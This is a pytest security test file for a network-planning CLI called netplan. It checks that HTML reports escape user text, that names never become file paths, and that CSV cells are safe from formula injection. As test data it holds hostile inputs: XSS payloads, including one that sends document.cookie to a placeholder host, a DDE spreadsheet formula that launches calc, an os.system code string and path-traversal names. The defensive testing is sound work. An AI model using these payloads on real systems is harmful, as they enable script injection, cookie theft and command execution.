"""Safety of what netplan reads and writes, end to end through the command line.

- user text (branch, candidate and district names, ids) is escaped in every HTML output:
  the plan's map and report, a redrawn map and report, the diagnosis map;
- terminal output shows it literally (rich markup in a name is not interpreted);
- names and ids never become file paths: output paths come from --out, adcodes (six
  digits, validated) and plan folder names only;
- reading a layer never executes its content (code in GeoJSON properties, formulas in CSV);
- actions.csv neutralises cells a spreadsheet would run as a formula.
"""

from __future__ import annotations

import csv
import re
from pathlib import Path

import geopandas as gpd
import pytest
from conftest_reliability import Layers, run_cli, write_scenario, write_study

from netplan.planning.plan import read_plan
from netplan.study.readers import read_layer

XSS_SCRIPT = "<script>alert(1)</script>"
XSS_ATTR = '"><img src=x onerror=alert(1)>'
MARKUP = "[/][bold red]x[/bold red]"
FORMULA = "=cmd|' /C calc'!A0"
CODE = "__import__('os').system('touch PWNED')"


def evil(layers: Layers) -> None:
    """Hostile names and ids everywhere a user can put text."""
    b = layers["branches"]
    b["name"] = [XSS_SCRIPT, XSS_ATTR, MARKUP, FORMULA, "+1 branch", "-x", "@SUM(1)", CODE]
    b["branch_id"] = ["b1", "b2", XSS_SCRIPT, "=b4", "b5", "../../b6", "b7", "b8"]
    c = layers["candidates"]
    c["name"] = [XSS_ATTR, FORMULA]
    c["candidate_id"] = ["=c1", "c/2"]
    d = layers["districts"]
    d["name_zh"] = [XSS_SCRIPT, MARKUP]
    d["name_en"] = [XSS_ATTR, "../../evil"]
    d["name_pinyin"] = [MARKUP, "Chaoyang"]
    z = layers["zones"]
    z["zone_id"] = [XSS_SCRIPT, "z2", "=z3", "z4", "z5", "z6", "z7", XSS_ATTR]


def script_tags(html: str) -> int:
    return len(re.findall(r"<script\b", html, flags=re.I))


def assert_escaped(html: str) -> None:
    assert XSS_SCRIPT not in html and XSS_ATTR not in html
    # no element of a user's text became a tag (the report's own map images are PNG data)
    assert not re.search(r'<img\b(?![^>]*\bsrc="data:image/png;base64,)', html, re.I)
    # the names are shown, escaped (HTML text or JSON with \u003c inside a data block)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html or (
        "\\u003cscript\\u003ealert(1)" in html or "\\u0026lt;script\\u0026gt;" in html)


@pytest.fixture(scope="module")
def html_outputs(tmp_path_factory: pytest.TempPathFactory) -> dict[str, tuple[str, str]]:
    """Every HTML file of every command, for the hostile study and for a clean one."""
    mp = pytest.MonkeyPatch()
    found: dict[str, tuple[str, str]] = {}
    try:
        for label, mutate in (("evil", evil), ("clean", None)):
            d = tmp_path_factory.mktemp(label)
            study = write_study(d / "study.gpkg", mutate)
            sc = write_scenario(d / "tiny.toml")
            commands: list[list[str | Path]] = [
                ["plan", "--data", study, "--scenario", sc, "--year", "2020", "--out", "city"],
                ["plan", "--data", study, "--scenario", sc, "--year", "2020", "--district",
                 "110101", "--out", "district"],
                ["diagnose", "--data", study, "--scenario", sc, "--year", "2020", "--map",
                 "diagnosis.html"],
                ["map", "district", "--data", study, "--tiles", "none"],
                ["report", "city", "--data", study, "--out", "report-again.html"],
            ]
            for args in commands:
                res = _run(args, d, mp)
                assert res.code == 0, res.err
            for path in sorted(d.rglob("*.html")):
                key = path.relative_to(d).as_posix()
                evil_or_clean = path.read_text(encoding="utf-8")
                old = found.get(key, ("", ""))
                found[key] = (evil_or_clean, old[1]) if label == "evil" else (old[0],
                                                                               evil_or_clean)
    finally:
        mp.undo()
    return found


def _run(args: list[str | Path], cwd: Path, mp: pytest.MonkeyPatch):  # type: ignore[no-untyped-def]
    """run_cli without the function-scoped capsys (module fixture): capture by hand."""
    import contextlib
    import io
    import sys

    from conftest_reliability import CliResult

    from netplan import cli

    mp.chdir(cwd)
    mp.setattr(sys, "argv", ["netplan", *map(str, args)])
    out, err = io.StringIO(), io.StringIO()
    code: int | str | None = 0
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        try:
            cli.main()
        except SystemExit as exc:
            code = exc.code
    return CliResult(code, out.getvalue(), err.getvalue())


EXPECTED_HTML = ["city/map.html", "city/report.html", "diagnosis.html", "district/map.html",
                 "district/report.html", "maps/district.html", "report-again.html"]


def test_every_html_output_was_written(html_outputs: dict[str, tuple[str, str]]) -> None:
    assert sorted(html_outputs) == EXPECTED_HTML


@pytest.mark.parametrize("name", EXPECTED_HTML)
def test_user_text_is_escaped_in_html(name: str, html_outputs: dict[str, tuple[str, str]]
                                      ) -> None:
    hostile, clean = html_outputs[name]
    assert_escaped(hostile)
    # hostile names add no <script> element: the same scripts as for a clean study
    assert script_tags(hostile) == script_tags(clean)


def test_terminal_output_shows_markup_literally(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    study = write_study(tmp_path / "study.gpkg", evil)
    sc = write_scenario(tmp_path / "tiny.toml")
    for args in (["summary", "--data", study],
                 ["diagnose", "--data", study, "--scenario", sc, "--year", "2020"],
                 ["plan", "--data", study, "--scenario", sc, "--year", "2020", "--out", "p"]):
        res = run_cli(args, cwd=tmp_path, monkeypatch=monkeypatch, capsys=capsys)
        assert res.code == 0, res.err
        assert MARKUP in res.out  # printed, not interpreted


def test_names_and_ids_never_become_paths(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """Default output paths use the adcode and the plan folder's name, nothing else."""
    work = tmp_path / "work"
    work.mkdir()
    study = write_study(tmp_path / "in" / "study.gpkg", evil)
    sc = write_scenario(tmp_path / "in" / "tiny.toml")
    # Chaoyang's English name is "../../evil": --district resolves it to its adcode
    res = run_cli(["plan", "--data", study, "--scenario", sc, "--year", "2020", "--district",
                   "../../evil"], cwd=work, monkeypatch=monkeypatch, capsys=capsys)
    assert res.code == 0, res.err
    res = run_cli(["map", "out/plan-110105", "--data", study, "--tiles", "none"], cwd=work,
                  monkeypatch=monkeypatch, capsys=capsys)
    assert res.code == 0, res.err
    assert res.out.strip() == str(Path("maps") / "plan-110105.html")
    files = sorted(p.relative_to(tmp_path).as_posix() for p in tmp_path.rglob("*")
                   if p.is_file())
    assert files == [
        "in/study.gpkg", "in/tiny.toml", "work/maps/plan-110105.html",
        *(f"work/out/plan-110105/{f}" for f in (".netplan-plan.json", "actions.csv",
                                                "kpis.json", "map.html", "plan.gpkg",
                                                "report.html", "run.json")),
    ]
    assert not (tmp_path.parent / "evil").exists()


def test_reading_a_layer_never_runs_its_content(tmp_path: Path,
                                                monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    js = "<img src=x onerror=\"fetch('http://example.invalid/'+document.cookie)\">"
    geojson = tmp_path / "candidates.geojson"
    geojson.write_text(
        '{"type": "FeatureCollection", "features": [{"type": "Feature", "properties": '
        '{"candidate_id": "c1", "name": "' + CODE.replace("'", "\\u0027") + '", "kind": '
        + '"' + js.replace('"', '\\"') + '", "__class__": "os.system", "eval": "${7*7}"}, '
        '"geometry": {"type": "Point", "coordinates": [116.45, 39.92]}}]}', encoding="utf-8")
    gdf = read_layer(geojson, "candidates")
    assert gdf.loc[0, "name"] == CODE
    assert gdf.loc[0, "kind"] == js
    assert gdf.loc[0, "eval"] == "${7*7}"
    table = tmp_path / "branches.csv"
    table.write_text(
        "branch_id,name,format,counters,terminals,lon,lat\n"
        f"\"{FORMULA}\",\"{CODE}\",full,4,2,116.39,39.9\n"
        "b2,\"=HYPERLINK(\"\"http://x\"\")\",light,2,2,116.41,39.9\n", encoding="utf-8")
    br = read_layer(table, "branches")
    assert br["branch_id"].tolist() == [FORMULA, "b2"]
    assert br["name"].tolist() == [CODE, '=HYPERLINK("http://x")']
    assert sorted(p.name for p in tmp_path.iterdir()) == ["branches.csv", "candidates.geojson"]


def test_actions_csv_neutralises_formulas(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    study = write_study(tmp_path / "study.gpkg", evil)
    sc = write_scenario(tmp_path / "tiny.toml")
    res = run_cli(["plan", "--data", study, "--scenario", sc, "--year", "2020", "--out", "p"],
                  cwd=tmp_path, monkeypatch=monkeypatch, capsys=capsys)
    assert res.code == 0, res.err
    with (tmp_path / "p" / "actions.csv").open(encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    cells = [v for row in rows for v in row.values()]
    text_cols = ("site_id", "name", "kind", "adcode", "ring_zone", "action", "format_before",
                 "format_after", "relocation_target", "reason")
    for row in rows:
        for col in text_cols:
            assert not row[col].startswith(("=", "+", "-", "@", "\t", "\r")), (col, row[col])
    by_id = {row["site_id"]: row for row in rows}
    assert by_id["'=b4"]["name"] == "'" + FORMULA
    assert by_id["b5"]["name"] == "'+1 branch"
    assert by_id["b7"]["name"] == "'@SUM(1)"
    assert by_id["b1"]["name"] == XSS_SCRIPT  # harmless text is left as it is
    assert any(c.startswith("'") for c in cells)
    for row in rows:  # numbers stay numbers
        float(row["arrivals_before_per_h"])
        float(row["lon"])
    # the GeoPackage keeps the user's text exactly
    actions = read_plan(tmp_path / "p").actions.set_index("site_id")
    assert actions.loc["=b4", "name"] == FORMULA
    assert isinstance(actions, gpd.GeoDataFrame)
